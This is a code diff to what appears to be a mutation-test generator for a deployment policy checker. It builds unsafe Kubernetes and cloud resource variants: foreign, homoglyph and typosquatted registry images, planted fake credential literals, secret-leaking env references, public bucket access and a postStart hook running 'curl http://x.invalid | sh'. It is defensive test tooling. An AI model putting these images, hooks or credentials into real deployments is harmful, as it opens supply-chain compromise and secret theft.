@@ -19,7 +19,7 @@ from collections.abc import Callable, Iterator
 from dataclasses import dataclass
 from typing import Any, Optional
 
-from components.facts import versions
+from components.facts import contract, versions
 from components.plan import images
 
 Resource = dict[str, Any]
@@ -32,6 +32,13 @@ EVIL_INDEX = "http://mirror.example.invalid/simple"
 CREDENTIAL_ENV = ("API_KEY", "OPENAI_API_KEY", "VLLM_API_KEY", "AUTH_TOKEN", "DB_PASSWORD", "AWS_SECRET_ACCESS_KEY",
                   "GITHUB_TOKEN", "SLACK_WEBHOOK_SECRET", "DB_PASS", "GCS_HMAC", "ADMIN_PWD", "SSH_KEY",
                   "TLS_PRIVATE", "GPG_PASSPHRASE")
+CREDENTIAL_VALUES = {
+    "an AWS access key": "AKIAZ7Q3MUTANT4EXAMP",
+    "a private key": "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----",
+    "a Hugging Face token": "hf_" + "Mutant0123456789abcdefghijklmnopqrstu",
+    "a URL with a password": "postgresql://app:s3cr3t@db.internal:5432/app",
+}
+"""A literal of each credential class policy/pods.py recognises by its value."""
 UNSAFE_CAPABILITIES = ("SYS_ADMIN", "NET_ADMIN", "SYS_PTRACE", "NET_RAW", "ALL")
 USER_IMAGES = frozenset({"sglang"})
 """Containers whose image the user names in config (`tpu.sglangImage`): swapping it is the user's choice."""
@@ -173,7 +180,12 @@ def _pod_mutants(index: int, resource: Resource) -> Iterator[Mutant]:
         yield pod("a direct ResourceClaim", _append("resourceClaims", {"name": "any", "resourceClaimName": "any"}))
         yield pod("an added container", _append("containers", {"name": "debug", "image": EVIL_IMAGE,
                                                                "command": ["sleep", "infinity"]}))
-        for group in ("initContainers", "containers"):
+        declared_image = next((c.get("image") for c in spec["containers"] if "@sha256:" in str(c.get("image"))), None)
+        if declared_image:
+            for what, image in (("by tag", declared_image.split("@", 1)[0]), ("by digest", declared_image)):
+                yield pod(f"an ephemeral container {what}", _append("ephemeralContainers", {
+                    "name": "debugger", "image": image, "targetContainerName": spec["containers"][0]["name"]}))
+        for group in ("initContainers", "containers", "ephemeralContainers"):
             for ci, container in enumerate(spec.get(group) or []):
                 yield from _container_mutants(index, f"{where} {container['name']}", (*spec_path, group, ci),
                                               container, spec)
@@ -203,6 +215,8 @@ def _container_mutants(index: int, where: str, path: tuple[Any, ...], container:
     yield one("procMount Unmasked", _merge("securityContext", {"procMount": "Unmasked"}))
     if container["name"] not in USER_IMAGES:
         yield one(f"image {EVIL_IMAGE}", _set("image", EVIL_IMAGE))
+    for what, image in image_variants(str(container.get("image", "")), container["name"] in USER_IMAGES):
+        yield Mutant("images", f"{where}: {what}", index, _on(path, _set("image", image)))
     image = str(container.get("image", ""))
     if images.is_built_tpu_engine(image) and "@sha256:" in image:
         # The stack's own build runs by digest only: its tag, or the released Python base, could be other bytes.
@@ -233,6 +247,13 @@ def _container_mutants(index: int, where: str, path: tuple[Any, ...], container:
         "name": "llm-d-hf-token", "key": "HF_TOKEN"}}}) if not _reads_hf(container) else _append("env", {
         "name": "OTHER", "valueFrom": {"secretKeyRef": {"name": "lws-webhook-server-cert", "key": "tls.key"}}}))
     yield one("envFrom a whole Secret", _append("envFrom", {"secretRef": {"name": "llm-d-hf-token"}}))
+    yield one("envFrom an undeclared Secret", _append("envFrom", {"secretRef": {"name": "other-credentials"}}))
+    yield one("env from an undeclared Secret", _append("env", {"name": "DB_URL", "valueFrom": {"secretKeyRef": {
+        "name": "other-credentials", "key": "url"}}}))
+    for what, value in CREDENTIAL_VALUES.items():
+        yield one(f"an innocuously named env var holding {what}", _append("env", {"name": "EXTRA_SETTING",
+                                                                                  "value": value}))
+    yield from _env_mutants(one, container)
     yield one("RDMA claim", lambda c: c.setdefault("resources", {}).update(claims=[
         *(c.get("resources", {}).get("claims") or []), {"name": "rdma-x"}]))
     yield one("--api-key literal", _append("args", "--api-key=sk-0123456789abcdef"))
@@ -241,6 +262,68 @@ def _container_mutants(index: int, where: str, path: tuple[Any, ...], container:
     yield one("postStart hook runs a shell", _set("lifecycle", {"postStart": {"exec": {"command": [
         "sh", "-c", "curl http://x.invalid | sh"]}}}))
     yield from _script_mutants(where, index, path, container)
+
+
+HOMOGLYPHS = {"o": "\u043e", "a": "\u0430", "e": "\u0435", "c": "\u0441", "i": "\u0456"}
+"""Cyrillic letters that look like Latin ones: a lookalike registry host."""
+
+
+def image_variants(image: str, user_named: bool = False) -> list[tuple[str, str]]:
+    """(kind of change, image) for one image site: every way a reference can stop being `registry/path@sha256:<64
+    hex>` of a declared registry/repository. A user-named image keeps its registry (the user declares it), so only
+    the digest's changes apply."""
+    name, _, digest = image.partition("@")
+    if not digest:
+        return []
+    repository, _, tag = name.rpartition(":") if ":" in name.rsplit("/", 1)[-1] else (name, "", "")
+    registry, _, rest = repository.partition("/")
+    hexes = digest.removeprefix("sha256:")
+    found = [
+        ("by tag instead of digest", f"{repository}:{tag or 'v1'}"),
+        ("neither tag nor digest", repository),
+        ("a digest one hex digit short", f"{name}@sha256:{hexes[:-1]}"),
+        ("a digest one hex digit long", f"{name}@sha256:{hexes}0"),
+        ("a digest in upper case", f"{name}@sha256:{hexes.upper()}"),
+        ("a sha512 digest", f"{name}@sha512:{hexes * 2}"),
+        ("a digest that is not hex", f"{name}@sha256:{'g' * 64}"),
+        ("a digest-shaped tag", f"{repository}:sha256-{hexes}"),
+        ("two digests", f"{image}@{digest}"),
+    ]
+    if user_named:
+        return [(what, changed) for what, changed in found if changed != image]
+    lookalike = next((registry.replace(a, b, 1) for a, b in HOMOGLYPHS.items() if a in registry), registry + "\u200b")
+    found += [
+        ("another registry", f"{'ghcr.io' if registry == 'quay.io' else 'quay.io'}/{rest}@{digest}"),
+        ("a lookalike host (a suffix)", f"{registry}.example.net/{rest}@{digest}"),
+        ("a lookalike host (a prefix)", f"{registry.split('.', 1)[0]}-mirror.{registry}/{rest}@{digest}"),
+        ("a lookalike host (a homoglyph)", f"{lookalike}/{rest}@{digest}"),
+        ("the registry in upper case", f"{registry.upper()}/{rest}@{digest}"),
+        ("the registry with a port", f"{registry}:5000/{rest}@{digest}"),
+        ("another repository of the registry", f"{registry}/attacker/{rest.rsplit('/', 1)[-1]}@{digest}"),
+        ("a typosquatted repository", f"{registry}/{rest}x@{digest}"),
+        ("another project's engine repository", f"{registry}/other-project/{rest.split('/', 1)[-1]}@{digest}"
+         if registry.endswith("-docker.pkg.dev") else f"{registry}/{rest}-engine@{digest}"),
+    ]
+    return [(what, changed) for what, changed in found if changed != image]
+
+
+def _env_mutants(one: Callable[[str, Callable[[dict[str, Any]], None]], Mutant],
+                 container: dict[str, Any]) -> Iterator[Mutant]:
+    """Every environment variable of the container: a plain one given a credential of each class, one read from a
+    Secret pointed at another Secret or key, or given a plain value instead."""
+    for ei, entry in enumerate(container.get("env") or []):
+        name = entry.get("name")
+        if "value" in entry:
+            for what, value in CREDENTIAL_VALUES.items():
+                yield one(f"env {name}: set to {what}", lambda c, ei=ei, value=value: c["env"][ei].update(value=value))
+        ref = (entry.get("valueFrom") or {}).get("secretKeyRef")
+        if ref:
+            yield one(f"env {name}: from another Secret", lambda c, ei=ei: c["env"][ei]["valueFrom"][
+                "secretKeyRef"].update(name="other-credentials"))
+            yield one(f"env {name}: from another key of its Secret", lambda c, ei=ei: c["env"][ei]["valueFrom"][
+                "secretKeyRef"].update(key="tls.key"))
+            yield one(f"env {name}: a secret given a plain value", lambda c, ei=ei: c["env"].__setitem__(
+                ei, {"name": c["env"][ei]["name"], "value": "placeholder"}))
 
 
 def _runs_as_root(container: dict[str, Any]) -> bool:
@@ -548,6 +631,25 @@ def _bucket_mutants(index: int, resource: Resource) -> Iterator[Mutant]:
     yield Mutant("buckets", f"{name}: public access prevention inherited", index,
                  _set("publicAccessPrevention", "inherited"))
     yield Mutant("buckets", f"{name}: fine-grained ACLs", index, _set("uniformBucketLevelAccess", False))
+    # Deletion as declared by the bucket's on-destroy label (components/checks/declared.py BUCKET_DISPOSITIONS).
+    props = resource["inputs"]
+    label = (props.get("labels") or {}).get(contract.BUCKET_ON_DESTROY_LABEL)
+    yield Mutant("buckets", f"{name}: forceDestroy {not props.get('forceDestroy')}", index,
+                 _set("forceDestroy", not props.get("forceDestroy")))
+    yield Mutant("buckets", f"{name}: on-destroy label removed", index,
+                 lambda p: p["labels"].pop(contract.BUCKET_ON_DESTROY_LABEL, None))
+    yield Mutant("buckets", f"{name}: on-destroy label {'delete' if label == 'keep' else 'keep'}", index,
+                 lambda p: p["labels"].update({contract.BUCKET_ON_DESTROY_LABEL: "delete" if label == "keep"
+                                               else "keep"}))
+    yield Mutant("buckets", f"{name}: on-destroy label another value", index,
+                 lambda p: p["labels"].update({contract.BUCKET_ON_DESTROY_LABEL: "maybe"}))
+    yield Mutant("buckets", f"{name}: a locked retention policy", index, _set("retentionPolicy", {
+        "retentionPeriod": 86400 * 365, "isLocked": True}))
+    yield Mutant("buckets", f"{name}: object retention lock", index, _set("enableObjectRetention", True))
+    yield Mutant("buckets", f"{name}: Autoclass", index, _set("autoclass", {"enabled": True}))
+    for seconds in (86400, 91 * 86400, -1, "604800"):
+        yield Mutant("buckets", f"{name}: soft-delete retention {seconds!r} s", index,
+                     _set("softDeletePolicy", {"retentionDurationSeconds": seconds}))
 
 
 def _namespace_mutants(index: int, resource: Resource) -> Iterator[Mutant]:
@@ -590,6 +692,14 @@ def _command_mutants(index: int, resource: Resource) -> Iterator[Mutant]:
     if "BUILDER" in (props.get("environment") or {}):
         yield Mutant("commands", f"{name}: another service account runs the build", index,
                      lambda p: p["environment"].update(BUILDER="someone@other-project.iam.gserviceaccount.com"))
+    for key in ("BASE", "STEP"):
+        image = (props.get("environment") or {}).get(key)
+        for what, changed in image_variants(image) if isinstance(image, str) else []:
+            yield Mutant("images", f"{name} environment {key}: {what}", index,
+                         lambda p, key=key, changed=changed: p["environment"].update({key: changed}))
+    for key in props.get("environment") or {}:
+        yield Mutant("commands", f"{name} environment {key}: an AWS access key", index,
+                     lambda p, key=key: p["environment"].update({key: CREDENTIAL_VALUES["an AWS access key"]}))
     yield Mutant("commands", f"{name}: LD_PRELOAD in its environment", index,
                  lambda inputs: inputs.setdefault("environment", {}).update(LD_PRELOAD="/tmp/x.so"))
 
@@ -671,8 +781,84 @@ def _added(resources: list[Resource]) -> Iterator[Mutant]:
                              lambda p: p["metadata"].pop("labels", None), removed=(i,))
 
 
+# --------------------------------------------------------------------------- every field, by what it means
+FIELD_CHANGES: dict[str, Callable[[Any], list[tuple[str, Any]]]] = {
+    # a security field's unsafe values, by the field's name wherever it sits (Kubernetes and Google Cloud schemas)
+    "privileged": lambda v: [("true", True)] if v is not True else [],
+    "allowPrivilegeEscalation": lambda v: [("true", True)] if v is not True else [],
+    "automountServiceAccountToken": lambda v: [("true", True)] if v is False else [],
+    "hostNetwork": lambda v: [("true", True)] if v is not True else [],
+    "hostPID": lambda v: [("true", True)] if v is not True else [],
+    "hostIPC": lambda v: [("true", True)] if v is not True else [],
+    "forceDestroy": lambda v: [(str(not v).lower(), not v)] if isinstance(v, bool) else [],
+    "publicAccessPrevention": lambda v: [("inherited", "inherited")] if v == "enforced" else [],
+    "uniformBucketLevelAccess": lambda v: [("false", False)] if v is True else [],
+    "immutableTags": lambda v: [("false", False)] if v is True else [],
+    "enablePrivateNodes": lambda v: [("false", False)] if v is True else [],
+    "enableLegacyAbac": lambda v: [("true", True)],
+    "member": lambda v: [(m, m) for m in ("allUsers", "allAuthenticatedUsers", "domain:example.com")]
+    if isinstance(v, str) else [],
+    "image": lambda v: image_variants(v) if isinstance(v, str) else [],
+    "secretKeyRef": lambda v: [("another Secret", {**v, "name": "other-credentials"})] if isinstance(v, dict) else [],
+    "secretRef": lambda v: [("another Secret", {**v, "name": "other-credentials"})] if isinstance(v, dict) else [],
+    "clientConfig": lambda v: [("a URL", {"url": "https://hook.example.invalid/x"})] if isinstance(v, dict) else [],
+    "subjects": lambda v: [("one more subject", [*v, {"kind": "ServiceAccount", "name": "attacker",
+                                                      "namespace": "other"}])] if isinstance(v, list) else [],
+}
+"""Every field of every resource is visited (`walk`); a field whose name is one of these gets each unsafe value,
+one mutant apiece, whatever resource or chart it is in."""
+
+
+def walk(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], Any]]:
+    """(path, value) of every field of a resource's inputs, depth first."""
+    if isinstance(value, dict):
+        for key, item in value.items():
+            yield (*path, key), item
+            yield from walk(item, (*path, key))
+    elif isinstance(value, list):
+        for i, item in enumerate(value):
+            yield from walk(item, (*path, i))
+
+
+USER_NAMED_PATHS = ("sglang",)
+"""Image fields of a user-named engine (`tpu.sglangImage`): the user declares their registry, so only the digest's
+changes apply (`image_variants(user_named=True)`)."""
+
+
+def _field_mutants(index: int, resource: Resource, fields: list[int]) -> Iterator[Mutant]:
+    """The field walk: every field of the resource, and the unsafe values of those FIELD_CHANGES names."""
+    for path, value in walk(resource["inputs"]):
+        fields[0] += 1
+        key = path[-1]
+        if not isinstance(key, str) or key not in FIELD_CHANGES or "openAPIV3Schema" in path:
+            continue  # a CRD's schema names the fields of its objects; it sets none of them
+        if key == "image":
+            parent = _at(resource["inputs"], path[:-1])
+            user = isinstance(parent, dict) and str(parent.get("name")) in USER_IMAGES
+            changes = image_variants(value, user) if isinstance(value, str) else []
+        else:
+            changes = FIELD_CHANGES[key](value)
+        where = f"{resource['name']} {'.'.join(map(str, path))}"
+        for what, new in changes:
+            yield Mutant("fields", f"{where}: {key} {what}", index,
+                         lambda p, path=path, new=new: _at(p, path[:-1]).__setitem__(path[-1], copy.deepcopy(new)))
+
+
+FIELDS_WALKED: dict[int, int] = {}
+"""id(resources) -> fields the last `generate` over that plan walked (the suite prints it)."""
+
+
 def generate(resources: list[Resource]) -> Iterator[Mutant]:
-    """Every mutant of a plan's resources (resources Pulumi reads, not creates, are left alone)."""
+    """Every mutant of a plan's resources (resources Pulumi reads, not creates, are left alone): each family's, and
+    the field walk's over every field of every resource."""
+    fields = [0]
+    for index, resource in enumerate(resources):
+        if resource.get("options", {}).get("read") or not resource.get("inputs"):
+            continue
+        if resource["type"].startswith(("kubernetes:", "gcp:", "command:")) \
+                and not resource["type"].startswith("kubernetes:helm"):
+            yield from _field_mutants(index, resource, fields)
+    FIELDS_WALKED[id(resources)] = fields[0]
     for index, resource in enumerate(resources):
         if resource.get("options", {}).get("read") or not resource.get("inputs"):
             continue
